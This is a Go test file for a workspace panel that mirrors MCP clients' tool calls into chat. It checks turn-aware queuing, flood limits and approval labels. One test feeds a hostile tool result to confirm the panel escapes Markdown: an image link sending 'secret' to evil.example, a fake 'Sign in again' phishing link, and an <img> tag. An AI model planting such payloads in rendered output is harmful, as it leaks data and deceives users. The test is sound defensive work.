package panelsync

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/ag-ui-protocol/ag-ui/sdks/community/go/pkg/core/events"

	"github.com/infer-workspace/infer/bridge"
	"github.com/infer-workspace/infer/bridge/wire"
	"github.com/infer-workspace/infer/session"
	"github.com/infer-workspace/infer/session/tools"
)

// chatSender keeps the chat events it is sent; other frames are not
// expected here.
type chatSender struct {
	bridge.Sender
	types []string
	text  []string
}

func (s *chatSender) Send(f wire.Frame) error {
	var ev struct{ Type, Delta string }
	if err := json.Unmarshal(f.(wire.ChatEvent).Event, &ev); err != nil {
		return err
	}
	s.types = append(s.types, ev.Type)
	if ev.Delta != "" {
		s.text = append(s.text, ev.Delta)
	}
	return nil
}

var _ bridge.Sender = (*chatSender)(nil)

const wholeRun = "RUN_STARTED TEXT_MESSAGE_START TEXT_MESSAGE_CONTENT TEXT_MESSAGE_END RUN_FINISHED"

func navigated(id string) session.OutsideCall {
	return session.OutsideCall{ID: id, Name: "BrowserNavigate", Args: `{"url":"https://example.com/` + id + `"}`,
		Origin: tools.OriginMCP, Done: true, OK: true, Result: "Example Domain"}
}

// An MCP client's call that ends while the panel is idle is shown at once
// as a run of its own; one that ends while a turn streams waits for the
// turn's end, so it neither lands inside the agent's answer nor ends
// opentask's "Working…" early.
func TestOutsideCallsWaitForTheRunningTurn(t *testing.T) {
	var o outsideLines
	s := &chatSender{}
	if err := o.show(s, navigated("1")); err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(s.types, " "); got != wholeRun {
		t.Fatalf("idle: %s", got)
	}
	if s.text[0] != "MCP client · BrowserNavigate https://example.com/1 — ✓ Example Domain" {
		t.Fatalf("line %q", s.text[0])
	}

	s = &chatSender{}
	o.track(events.NewRunStartedEvent("c", "r"))
	o.show(s, navigated("2"))
	if len(s.types) != 0 {
		t.Fatalf("sent while a turn ran: %q", s.types)
	}
	if o.track(events.NewTextMessageEndEvent("m")) {
		t.Fatal("a message's end taken for the run's")
	}
	if !o.track(events.NewRunFinishedEvent("c", "r")) {
		t.Fatal("the run's end not seen")
	}
	o.flush(s)
	if got := strings.Join(s.types, " "); got != wholeRun || !strings.Contains(s.text[0], "example.com/2") {
		t.Fatalf("after the turn: %s %q", got, s.text)
	}

	// A flood during one turn is bounded: the rest is counted.
	s = &chatSender{}
	o.track(events.NewRunStartedEvent("c", "r2"))
	for i := range maxHeldOutside + 3 {
		o.show(s, navigated(string(rune('a'+i%26))))
	}
	o.idle(s) // a turn whose end the mirror never saw
	if n := strings.Count(strings.Join(s.types, " "), "RUN_STARTED"); n != maxHeldOutside+1 {
		t.Fatalf("%d runs sent", n)
	}
	if last := s.text[len(s.text)-1]; !strings.Contains(last, "3 more calls from MCP clients") {
		t.Fatalf("last line %q", last)
	}
}

// The panel's approval names the MCP client; its own requests keep the
// bare tool name it may match against what it asked for.
func TestApprovalFrameSaysAnMCPClientAsks(t *testing.T) {
	a := session.Approval{ID: "r1", Call: tools.Call{Name: "BrowserNavigate", Args: `{"url":"https://x.test"}`, Origin: tools.OriginMCP}}
	if got := approvalFrame(a); got != (wire.ApprovalRequest{RequestID: "r1", ToolName: "BrowserNavigate for an MCP client", ToolArgs: a.Call.Args}) {
		t.Fatalf("frame %+v", got)
	}
	a.Call.Origin = tools.OriginPanel
	if got := approvalFrame(a); got.ToolName != "BrowserNavigate" {
		t.Fatalf("frame %+v", got)
	}
}

// An MCP client's call is shown in the panel, which renders Markdown: a
// page title or arguments that are Markdown stay words, never an image the
// panel fetches, a link or HTML.
func TestOutsideLinesAreNoMarkdown(t *testing.T) {
	var o outsideLines
	s := &chatSender{}
	c := navigated("md")
	c.Result = `![](https://evil.example/c?q=secret) [Sign in again](https://evil.example/login) <img src=x>`
	if err := o.show(s, c); err != nil {
		t.Fatal(err)
	}
	got := strings.Join(s.text, "")
	for _, md := range []string{"![", "](", "<img"} {
		if strings.Contains(unescaped(got), md) {
			t.Errorf("the line keeps Markdown %q: %s", md, got)
		}
	}
}

// unescaped is s without its backslash escapes: what a Markdown renderer
// could still take for Markdown.
func unescaped(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}
